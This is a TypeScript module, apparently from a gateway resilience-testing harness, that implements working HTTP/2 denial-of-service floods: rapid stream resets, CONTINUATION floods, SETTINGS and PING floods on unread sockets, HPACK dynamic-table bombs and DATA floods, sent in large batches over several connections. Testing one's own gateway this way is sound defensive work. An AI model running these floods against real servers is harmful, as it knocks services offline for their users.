// HTTP/2 floods: streams reset at once, and frames that cost the gateway more than their sender.

import type { Socket } from "node:net";
import {
  CONTINUATION,
  data,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  openStream,
  openStreamInParts,
  PREFACE,
  ping,
  resetStream,
  settings,
} from "../frames.ts";
import { framesOf, get } from "../http2-requests.ts";
import { openSocket, writeAll } from "./connections.ts";
import { LOGIN_BODY, login } from "./requests.ts";
import { type Attack, type AttackPlan, forEachIndex } from "./target.ts";

const LANES = 8;
const MOST_REFUSED = 20;
const STUCK_MS = 2_000;
const GREETING = Buffer.concat([PREFACE, settings()]);

/** A flood of units, which are streams or frames. */
interface Flood {
  /** Units at full scale. */
  readonly count: number;
  /** Units in one write. */
  readonly size: number;
  /** Bytes before the units of a connection. */
  readonly opening?: Buffer;
  /** The bytes of a connection's unit. */
  readonly unit: (index: number) => Buffer;
  /** The most units of a connection, for floods of streams. */
  readonly unitsPerConnection?: number;
  /** Whether it reads what the gateway sends; true when absent. */
  readonly reads?: boolean;
}

/** Sends `count` units over a few connections, at both listeners in turn. Reconnects after the gateway ends a connection. */
function flood({
  count,
  size,
  unit,
  opening = Buffer.alloc(0),
  unitsPerConnection = 1e9,
  reads = true,
}: Flood): AttackPlan {
  const batch = (first: number): Buffer =>
    Buffer.concat(Array.from({ length: size }, (_, index) => unit(first + index)));
  const run: Attack = async (target, count, findings) => {
    let sent = 0;
    await forEachIndex(LANES, LANES, async (lane) => {
      const url = lane % 2 === 0 ? target.publicUrl : target.internalUrl;
      let refused = 0;
      while (sent < count && refused < MOST_REFUSED) {
        const socket = await openSocket(url, lane);
        if (socket === undefined) {
          refused++;
          continue;
        }
        refused = 0;
        if (reads) socket.resume();
        else socket.pause();
        await writeAll(socket, Buffer.concat([GREETING, opening]));
        for (let units = 0; units < unitsPerConnection && sent < count && !socket.destroyed; units += size) {
          sent += size;
          await writeUnlessStuck(socket, batch(units));
        }
        socket.destroy();
      }
    });
    if (sent < count) findings.add(`connections were refused after ${sent}`);
  };
  return { count, run };
}

/** Writes, unless the gateway reads no more: then the flood is stopped and the connection is closed. */
async function writeUnlessStuck(socket: Socket, bytes: Buffer): Promise<void> {
  const timer = setTimeout(() => socket.destroy(), STUCK_MS);
  await writeAll(socket, bytes);
  clearTimeout(timer);
}

/** Node takes stream numbers up to 2^31. */
const STREAMS = 10_000;
const PAGE = 16 * 1024;

const streamOf = (unit: number): number => 2 * unit + 1;

/** A literal with incremental indexing (RFC 7541, section 6.2.1), name and value shorter than 127 bytes each. */
function indexed(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0x40, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
}

/** `:method: GET`, `:scheme: http`, `:path: /` of the static table, then a field that enters the dynamic one. */
const ENTRY = Buffer.concat([Buffer.of(0x82, 0x86, 0x84), indexed("x".repeat(100), "y".repeat(120))]);
/** The newest entry of the dynamic table: a byte that stands for 220. */
const NEWEST = 0xbe;

function bomb(unit: number): Buffer {
  const head = unit === 0 ? ENTRY : ENTRY.subarray(0, 3);
  return frame(
    HEADERS,
    END_STREAM | END_HEADERS,
    streamOf(unit),
    Buffer.concat([head, Buffer.alloc(PAGE - 400, NEWEST)]),
  );
}

function resetAtOnce(index: number): Buffer {
  const stream = streamOf(index);
  return Buffer.concat([framesOf(stream, index % 2 === 0 ? login() : get("/openapi.json")), resetStream(stream)]);
}

/** More bytes than a login may have, within the flow-control window. */
function pageOf(index: number): Buffer {
  const stream = streamOf(index);
  return Buffer.concat([
    openStream(stream, login().headers, false),
    data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false),
  ]);
}

const FLOODED: Readonly<Record<string, Flood>> = {
  "rapid-reset": { count: 100_000, size: 100, unitsPerConnection: STREAMS, unit: resetAtOnce },
  "continuation-flood": {
    count: 100_000,
    size: 50,
    opening: openStreamInParts(1, get("/auth/time").headers)[0],
    unit: (index) => frame(CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
  },
  "settings-flood": { count: 200_000, size: 500, unit: () => settings(65_535) },
  "settings-flood-unread": { count: 200_000, size: 500, reads: false, unit: () => settings(1) },
  "ping-flood": { count: 200_000, size: 500, unit: ping },
  "ping-flood-unread": { count: 200_000, size: 500, reads: false, unit: ping },
  "hpack-bombs": { count: 10_000, size: 10, unitsPerConnection: STREAMS, unit: bomb },
  "empty-data": {
    count: 200_000,
    size: 500,
    opening: openStream(1, login().headers, false),
    unit: () => data(1, Buffer.alloc(0), false),
  },
  "data-flood": { count: 20_000, size: 4, unitsPerConnection: STREAMS, unit: pageOf },
};

/** By attack; the count is of streams or frames. */
export const FLOODS: Readonly<Record<string, AttackPlan>> = Object.fromEntries(
  Object.entries(FLOODED).map(([name, one]) => [name, flood(one)]),
);
